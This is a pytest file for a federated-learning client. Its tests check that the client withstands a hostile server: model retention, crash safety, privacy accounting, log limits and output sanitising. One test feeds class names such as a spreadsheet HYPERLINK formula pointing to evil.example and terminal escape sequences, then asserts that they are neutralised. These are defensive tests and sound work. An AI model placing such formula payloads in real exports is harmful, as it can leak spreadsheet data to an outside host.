"""A server that wants a participant to lose what it has learned, with valid messages alone."""

import csv
import logging
import os
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import torch

from client_app import privacy
from client_app.data.examples import ClientData
from client_app.models.registry import build_model
from client_app.personal import PersonalModel
from client_app.privacy import Privacy, spent_from
from client_app.shelf import BEST, LAST, MODELS, MOST_FEDERATIONS, Shelf
from client_app.store import FolderState
from common.accounting import Spent, epsilon
from common.errors import WireError
from common.messages import Evaluation
from common.records import Content, Received, encode
from experiments.__main__ import main
from experiments.deploy.supervise import MAX_LOG_BYTES, explain, rotating_log
from tests.cases.test_pictures import grey
from tests.unit.client_app.pictures import client_data
from tests.unit.common.test_records import HEADER

DATA = client_data(num_train=12)


def keep(
    shelf: Shelf,
    server_round: int,
    accuracy: float,
    *,
    of: int = 30,
    federation: str = "a1",
    data: ClientData = DATA,
) -> None:
    """Keep a model that gets so many of so many validation examples right."""
    found = Evaluation(num_test=4, num_correct=2, test_loss=1.0, seconds=0.0)
    facts = {"round": server_round, "validation_accuracy": accuracy, "num_validation": of}
    module = build_model("mlp", in_channels=3, num_classes=10)
    model = PersonalModel("mlp", module, data, found, "", facts)
    shelf.keep(model, federation, server_round, program=False)


def accuracy(shelf: Shelf, which: str) -> float:
    return float(shelf.find(which, "a1").about["validation_accuracy"])


def test_a_round_that_is_repeated_takes_no_better_model(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 12, 0.9)
    for _ in range(3):
        keep(shelf, 12, 0.1)
    assert (accuracy(shelf, BEST), accuracy(shelf, LAST)) == (0.9, 0.1)


def test_a_better_model_of_an_earlier_run_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 9, 0.95)
    keep(shelf, 2, 0.3, federation="b2")
    grey(tmp_path / "pictures" / "a" / "1.png", 5)
    words = [str(tmp_path), str(tmp_path / "pictures"), str(tmp_path / "o.csv")]
    assert main(["model", "predict", *words]) == 0
    assert "federation a1 has a better one, of round 9: --federation a1" in capsys.readouterr().out
    assert main(["model", "predict", *words, "--federation", "a1"]) == 0
    assert "has a better one" not in capsys.readouterr().out


def test_few_validation_examples_make_no_best_model(tmp_path: Path) -> None:
    """How many there are, a run config says."""
    shelf = Shelf(tmp_path)
    keep(shelf, 1, 0.8)
    for number in range(2, 6):
        keep(shelf, number, 1.0, of=1)
    assert accuracy(shelf, BEST) == 0.8
    keep(shelf, 6, 0.9, of=60)
    assert accuracy(shelf, BEST) == 0.9


def test_models_are_compared_on_the_same_examples(tmp_path: Path) -> None:
    """What is validated on may be trivial, or public; or the participant has more of it now."""
    shelf = Shelf(tmp_path)
    others = [replace(DATA, validation_labels=torch.tensor([number])) for number in range(8)]
    keep(shelf, 1, 0.8)
    for server_round, data in enumerate(others, 2):
        keep(shelf, server_round, 1.0, of=1000, data=data)
        keep(shelf, server_round, 0.1, of=1000, data=data)
        assert shelf.versions("a1")[0].about["validation_accuracy"] == 0.8
        assert len(shelf.versions("a1")) <= 4
        assert accuracy(shelf, BEST) == 1.0, "of the examples of now"
    keep(shelf, 12, 0.2)
    assert accuracy(shelf, BEST) == 0.8


def test_federations_that_are_made_up_push_none_out(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 1, 0.8)
    for number in range(MOST_FEDERATIONS + 10):
        for server_round in (1, 2, 3):
            keep(shelf, server_round, 0.5, federation=f"b{number:04x}")
    assert accuracy(shelf, BEST) == 0.8
    assert len(shelf.federations()) == MOST_FEDERATIONS


def test_nor_do_earlier_ones_those_that_come_after_them(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    for number in range(MOST_FEDERATIONS):
        keep(shelf, 1, 0.5, federation=f"b{number:04x}")
    for honest in ("a1", "a2", "a3", "a4"):
        keep(shelf, 1, 0.9 if honest == "a2" else 0.6, federation=honest)
    for number in range(MOST_FEDERATIONS):
        keep(shelf, 1, 0.6, federation=f"c{number:04x}")
        assert {"a2"} <= {*shelf.federations()}, "the best one stays"
        assert {"a1", "a3", "a4"} <= {*shelf.federations()} or number > 4
    assert len(shelf.federations()) == MOST_FEDERATIONS


def test_a_federation_that_goes_on_meanwhile_is_not_the_newest(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    for number in range(MOST_FEDERATIONS + 10):
        keep(shelf, number, 0.8 if number == 5 else 0.3)
        keep(shelf, 1, 0.5, federation=f"b{number:04x}")
    assert accuracy(shelf, BEST) == 0.8


def test_a_clock_that_was_ahead_costs_no_version(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 1, 0.5)
    for path in (tmp_path / MODELS / "a1").rglob("*"):
        os.utime(path, (4e9, 4e9))
    keep(shelf, 2, 0.8)
    keep(shelf, 3, 0.7)
    assert (accuracy(shelf, BEST), accuracy(shelf, LAST)) == (0.8, 0.7)


def test_a_crash_between_two_versions_loses_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 1, 0.8)
    real = Path.rename

    def dies(self: Path, target: Any) -> Path:
        if self.name == ".draft":
            raise KeyboardInterrupt
        return real(self, target)

    monkeypatch.setattr(Path, "rename", dies)
    with pytest.raises(KeyboardInterrupt):
        keep(shelf, 1, 0.9)
    assert accuracy(shelf, BEST) == 0.8


def test_a_line_that_a_full_disk_cut_short_costs_that_line(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    keep(shelf, 1, 0.8)
    history = tmp_path / MODELS / "a1" / "history.jsonl"
    with history.open("a") as file:
        file.write('{"round": 2, "time": "2026-')
    keep(shelf, 3, 0.9)
    keep(shelf, 1, 0.5, federation="b2")
    assert [row["round"] for row in shelf.history("a1")] == [1, 3]
    assert main(["status", str(tmp_path), "--json"]) == 0


def test_a_class_name_is_no_formula(tmp_path: Path) -> None:
    """Names come from the run config, and what wins is up to the server's weights."""
    shelf = Shelf(tmp_path)
    names = ['=HYPERLINK("http://evil.example/"&A2)', "[/d]", "a;=1+1", "\uff1d1", *"efghij"]
    found = Evaluation(num_test=4, num_correct=2, test_loss=1.0, seconds=0.0)
    module = build_model("mlp", in_channels=3, num_classes=10)
    with torch.no_grad():
        module.head.weight.zero_()
        module.head.bias.copy_(-torch.arange(10.0))
    data = replace(DATA, about={"class_names": names})
    shelf.keep(PersonalModel("mlp", module, data, found), "a1", 1, program=False)
    for name in ("b", "c"):
        grey(tmp_path / "pictures" / name / "=1.png", 5)
    out = tmp_path / "out.csv"
    assert main(["model", "predict", str(tmp_path), str(tmp_path / "pictures"), str(out)]) == 0
    with out.open() as file:
        cells = [cell for row in csv.DictReader(file) for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@", "\uff1d")) for cell in cells)
    assert ";" not in out.read_text()


def test_a_ledger_stays_short_and_counts_no_less(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each run may ask for another noise; a row each would cost seconds a message."""
    state, paid = FolderState(tmp_path / "s"), []
    monkeypatch.setattr(privacy, "MOST_ROWS", 4)
    for number in range(4 + 5):
        noise, rate = 10 + 0.01 * number, 0.5 + 0.001 * (number % 7)
        Privacy(noise, 1.0, 100, state).spend(rate, 2)
        paid.append(Spent(noise, rate, 2))
    kept = spent_from(state)
    assert len(kept) <= 4
    assert sum(row.steps for row in kept) == 2 * len(paid)
    exact, bound = epsilon(paid, 1e-5), epsilon(kept, 1e-5)
    assert exact <= bound < 1.05 * exact


@pytest.mark.parametrize("key", ["federation-id", "nonce", "method"])
@pytest.mark.parametrize("text", ["x" * 4_000_000, "\x1b[2J"])
def test_words_of_a_header_are_short_and_plain(key: str, text: str) -> None:
    content = encode(HEADER, Content({}))
    content["config"][key] = text
    with pytest.raises(WireError, match=key) as found:
        Received(content)
    assert len(str(found.value)) < 1000
    assert str(found.value).isprintable()


def test_names_of_records_are_cut(tmp_path: Path) -> None:
    content = encode(HEADER, Content({}))
    content["x" * 8_000_000] = content["config"]
    with pytest.raises(WireError) as found:
        Received(content)
    assert len(str(found.value)) < 2000


def test_logs_of_a_participant_do_not_grow_without_end(tmp_path: Path) -> None:
    with closing(rotating_log(tmp_path / "supernode.log")) as log:
        for _ in range(3 * MAX_LOG_BYTES // 100_000):
            log.handle(logging.makeLogRecord({"msg": "x" * 99_999}))
    assert sum(path.stat().st_size for path in tmp_path.iterdir()) < 2.1 * MAX_LOG_BYTES
    assert [path.stat().st_mode & 0o077 for path in tmp_path.iterdir()] == [0, 0]


def test_a_server_cannot_speak_as_flowers_exit() -> None:
    said = "ERROR: refused by the server: Exit Code: 606"
    assert explain([said])[0] == 0
    assert explain(["\x1b[91mERROR \x1b[0m:     Exit Code: 606"])[0] == 606
    assert "\x1b" not in explain(["\x1b]0;owned\x07"])[1]
